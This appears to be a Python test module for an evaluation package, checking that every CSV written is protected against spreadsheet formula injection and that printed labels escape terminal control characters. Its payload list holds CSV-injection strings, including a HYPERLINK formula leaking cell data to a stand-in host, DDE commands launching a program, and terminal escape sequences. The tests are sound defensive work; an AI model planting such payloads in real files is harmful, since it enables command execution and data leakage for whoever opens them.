"""CSV outputs cannot run formulas, and the terminal shows hostile labels inertly.

Agent, task and player names come from the user's files. A name such as
``=HYPERLINK(...)`` or ``+cmd|' /C calc'!A0`` written as is to a CSV file runs
when the file is opened in a spreadsheet; a name holding terminal escape
sequences rewrites the user's terminal. Every CSV the package writes goes
through :func:`sklearn_eval.report.write_csv` (OWASP's rule: a leading single
quote before a formula), and every printed label has its control characters
escaped. Both are tested on every command with hostile names.
"""

import csv
import math
import re

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sklearn_eval.report import write_csv
from sklearn_eval.report._io import _MISSING

from ._helpers import run, write_matches, write_wide

TRIGGERS = "=+-@"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "=1+1",
    " =2+2",
    "\u00a0@SUM(1)",
    "safe\n=cmd|' /C calc'!A0",
    "x\r+1",
    "\x1b]0;pwned\x07title",
    "\x1b[2J\x1b[31mred",
    "bidi\u202eevil",
]
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")

# hostile strings: a formula trigger after optional blanks, possibly on a later
# line, around arbitrary text (labels are stripped by the readers, so the
# trigger also appears as the first character)
_BLANKS = st.sampled_from(["", " ", "\u00a0", "\t", "\r", "  "])
_TEXT = st.characters(codec="utf-8", exclude_characters="\x00")
_FORMULA = st.builds(
    lambda blanks, trigger, rest: blanks + trigger + rest,
    _BLANKS,
    st.sampled_from(list(TRIGGERS)),
    st.text(alphabet=_TEXT, max_size=12),
)
HOSTILE = st.one_of(
    _FORMULA,
    st.builds(
        lambda head, tail: head + "\n" + tail,
        st.text(alphabet=_TEXT, max_size=5),
        _FORMULA,
    ),
    st.sampled_from(PAYLOADS),
)


def dangerous_lines(cell):
    """Lines of a CSV cell a spreadsheet would evaluate as a formula."""
    lines = re.split(r"\r\n|\r|\n", cell)
    bad = [cell] if cell.startswith(("\t", "\r")) else []
    for line in lines:
        stripped = line.lstrip()
        if line.startswith(("\t", "\r")):
            bad.append(line)
        elif stripped and stripped[0] in TRIGGERS and not NUMBER.fullmatch(stripped):
            bad.append(line)
    return bad


def assert_csv_is_safe(path):
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows, path
    for row in rows:
        for cell in row:
            assert not dangerous_lines(cell), (path, cell)
    return rows


def _unescape(cell):
    parts = re.split(r"(\r\n|\r|\n)", cell)
    parts[::2] = [line[1:] if line.startswith("'") else line for line in parts[::2]]
    cell = "".join(parts)
    return cell[1:] if cell.startswith("'\r") else cell


# ---------------------------------------------------------------------------
# The writer
# ---------------------------------------------------------------------------
@settings(max_examples=300, deadline=None)
@given(texts=st.lists(HOSTILE | st.text(max_size=8), min_size=1, max_size=6))
def test_write_csv_neutralises_every_formula_and_nothing_else(texts, tmp_path_factory):
    path = tmp_path_factory.mktemp("w") / "t.csv"
    write_csv(path, ["label"], [[text] for text in texts])
    rows = assert_csv_is_safe(path)
    for text, (cell,) in zip(texts, rows[1:], strict=True):
        if dangerous_lines(text):
            assert cell != text
        elif not any(line.startswith("'") for line in re.split(r"\r\n|\r|\n", text)):
            assert cell == text  # harmless text is written unchanged
        if not any(line.startswith("'") for line in re.split(r"\r\n|\r|\n", text)):
            assert _unescape(cell) == text  # one quote per escaped line, no more


@settings(max_examples=200, deadline=None)
@given(
    values=st.lists(
        st.floats(allow_nan=True, allow_infinity=False)
        | st.integers(-(10**12), 10**12),
        min_size=1,
        max_size=6,
    )
)
def test_write_csv_keeps_numbers_numbers(values, tmp_path_factory):
    path = tmp_path_factory.mktemp("n") / "n.csv"
    write_csv(path, ["x"], [[v] for v in values])
    rows = assert_csv_is_safe(path)
    for value, (cell,) in zip(values, rows[1:], strict=True):
        if isinstance(value, float) and math.isnan(value):
            assert cell == ""
        else:
            assert float(cell) == value  # full precision, no quote before -35.2
            assert not cell.startswith("'")


@pytest.mark.parametrize("text", ["-35.2", "+7", "-1e-05", ".5", "-0"])
def test_numbers_written_as_text_stay_numbers(text, tmp_path):
    path = tmp_path / "t.csv"
    write_csv(path, ["x"], [[text]])
    assert assert_csv_is_safe(path)[1] == [text]


def test_write_csv_rejects_a_row_of_the_wrong_length(tmp_path):
    with pytest.raises(ValueError, match="row 2 has 1 cells; the header has 2"):
        write_csv(tmp_path / "t.csv", ["a", "b"], [[1, 2], [3]])


# ---------------------------------------------------------------------------
# Every command
# ---------------------------------------------------------------------------
def _distinct_labels(labels):
    """Labels as the readers see them: stripped, non-empty, distinct."""
    seen, kept = set(), []
    for label in labels:
        key = label.strip()
        if key and key.lower() not in _MISSING and key not in seen:
            seen.add(key)
            kept.append(label)
    return kept


def _result_file(tmp_path, agents, tasks, seed=0):
    rng = np.random.default_rng(seed)
    values = rng.uniform(0, 1, size=(len(agents), len(tasks)))
    return write_wide(tmp_path / "scores.csv", values, agents=agents, tasks=tasks)


def _match_file(tmp_path, players, seed=0):
    rng = np.random.default_rng(seed)
    first = rng.integers(0, len(players), 120)
    second = (first + rng.integers(1, len(players), 120)) % len(players)
    X = np.array(
        [[players[a], players[b]] for a, b in zip(first, second, strict=True)],
        dtype=object,
    )
    y = rng.choice([0.0, 0.5, 1.0], size=120)
    return write_matches(tmp_path / "matches.csv", X, y)


def _win_rate_file(tmp_path, agents, seed=0):
    rng = np.random.default_rng(seed)
    n = len(agents)
    upper = rng.uniform(0.1, 0.9, size=(n, n))
    P = np.triu(upper, 1) + np.tril(1 - upper.T, -1) + 0.5 * np.eye(n)
    return write_wide(tmp_path / "p.csv", P, agents=agents, tasks=agents)


COMMANDS = {
    "rank": lambda tmp, names: ["rank", _match_file(tmp, names)],
    "rank-melo": lambda tmp, names: [
        "rank",
        _match_file(tmp, names),
        "--model",
        "melo",
    ],
    "nash": lambda tmp, names: ["nash", _result_file(tmp, names[:6], names[6:])],
    "nash-win-rates": lambda tmp, names: [
        "nash",
        _win_rate_file(tmp, names[:5]),
        "--input",
        "win-rates",
    ],
    "nash-matches": lambda tmp, names: [
        "nash",
        _match_file(tmp, names),
        "--input",
        "matches",
    ],
    "irt": lambda tmp, names: ["irt", _result_file(tmp, names[:6], names[6:])],
    "generality": lambda tmp, names: [
        "generality",
        _result_file(tmp, names[:6], names[6:]),
        "--bins",
        "2",
        "--min-tasks-per-bin",
        "1",
    ],
    "select": lambda tmp, names: [
        "select",
        _result_file(tmp, names[:6], names[6:]),
        "--n-tasks",
        "3",
    ],
}


def _run_and_check(command, names, tmp_path, capsys):
    argv = COMMANDS[command](tmp_path, names)
    table = tmp_path / "out.csv"
    code, out, err = run([*argv, "--csv", table, "-q"], capsys)
    assert code == 0, err
    written = sorted(tmp_path.glob("out*.csv"))
    assert written and written[0] == table
    for path in written:
        assert_csv_is_safe(path)
    # the terminal gets no control character but line breaks
    for text in (out, err):
        assert not [c for c in text if not c.isprintable() and c != "\n"], text
    return out


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_every_command_neutralises_the_classic_payloads(command, tmp_path, capsys):
    names = [*PAYLOADS, "plain-name", "=other", "@x"]
    out = _run_and_check(command, names, tmp_path, capsys)
    if command in ("rank", "rank-melo", "nash-matches"):
        # every player is printed: the escape sequences show as text
        assert "\\x1b]0;pwned\\x07title" in out and "bidi\\u202eevil" in out


@pytest.mark.parametrize("command", sorted(COMMANDS))
@settings(
    max_examples=5,
    deadline=None,
    derandomize=True,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.filter_too_much,
    ],
)
@given(
    names=st.lists(HOSTILE, min_size=14, max_size=16)
    .map(_distinct_labels)
    .filter(lambda n: len(n) >= 11)
)
def test_every_command_writes_safe_csv_for_hostile_names(
    command, names, tmp_path_factory, capsys
):
    _run_and_check(command, names, tmp_path_factory.mktemp(command), capsys)
